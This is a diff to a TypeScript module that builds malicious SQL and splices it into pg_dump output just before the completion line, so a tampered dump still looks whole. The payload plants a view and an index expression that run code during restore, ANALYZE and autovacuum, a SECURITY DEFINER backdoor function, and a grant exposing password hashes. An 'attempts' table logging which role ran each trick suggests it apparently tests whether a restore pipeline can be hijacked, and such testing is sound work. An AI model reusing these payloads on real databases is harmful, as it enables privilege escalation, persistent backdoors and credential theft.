@@ -18,8 +18,10 @@ export const PAYLOAD_TAGS = [
   'index_expression', // an expression index, evaluated at CREATE INDEX, ANALYZE and by autovacuum as the owner
 ] as const;
 
-export function payloadSql(serviceRole: string): string {
+/** `table`: a table of the dump (schema-qualified), for the index expression and the view. */
+export function payloadSql(serviceRole: string, table = 'public.customers'): string {
   const role = `"${serviceRole.replace(/"/g, '""')}"`;
+  const bare = table.split('.').pop()!;
   return `
 CREATE TABLE public.attempts (tag text, who text, super boolean);
 GRANT ALL ON public.attempts TO PUBLIC;
@@ -60,7 +62,7 @@ $c$;
 CREATE AGGREGATE evil.count(*) (SFUNC = evil.count_step, STYPE = bigint, INITCOND = '0');
 
 CREATE SCHEMA ${role};
-CREATE VIEW ${role}.customers AS SELECT c.* FROM public.customers c WHERE public.pwn('user_schema');
+CREATE VIEW ${role}.${bare} AS SELECT c.* FROM ${table} c WHERE public.pwn('user_schema');
 
 -- Run by CREATE INDEX as the restore role, by ANALYZE and autovacuum as the table's owner. An IMMUTABLE function
 -- may not write, but a VOLATILE one it calls may: plant() sets database-level state through EXECUTE (the reader
@@ -84,14 +86,14 @@ BEGIN
   END LOOP;
 END
 $p$;
-CREATE FUNCTION public.tamper(id integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $t$
+CREATE FUNCTION public.tamper(id bigint) RETURNS bigint LANGUAGE plpgsql IMMUTABLE AS $t$
 BEGIN
   PERFORM public.pwn('index_expression');
   PERFORM public.plant();
   RETURN id;
 END
 $t$;
-CREATE INDEX customers_tamper ON public.customers (public.tamper(id));
+CREATE INDEX opareta_tamper ON ${table} (public.tamper(id));
 
 -- Backdoors for any role that can connect, if their owner were a superuser.
 CREATE FUNCTION public.backdoor() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $b$
@@ -106,8 +108,8 @@ GRANT SELECT ON public.password_hashes TO PUBLIC;
 }
 
 /** The payload put before pg_dump's closing line, so the dump stays complete. */
-export function withPayload(dump: string, serviceRole: string): string {
+export function withPayload(dump: string, serviceRole: string, table?: string): string {
   const end = dump.lastIndexOf('-- PostgreSQL database dump complete');
   if (end < 0) throw new Error('not a complete pg_dump output');
-  return `${dump.slice(0, end)}${payloadSql(serviceRole)}\n${dump.slice(end)}`;
+  return `${dump.slice(0, end)}${payloadSql(serviceRole, table)}\n${dump.slice(end)}`;
 }
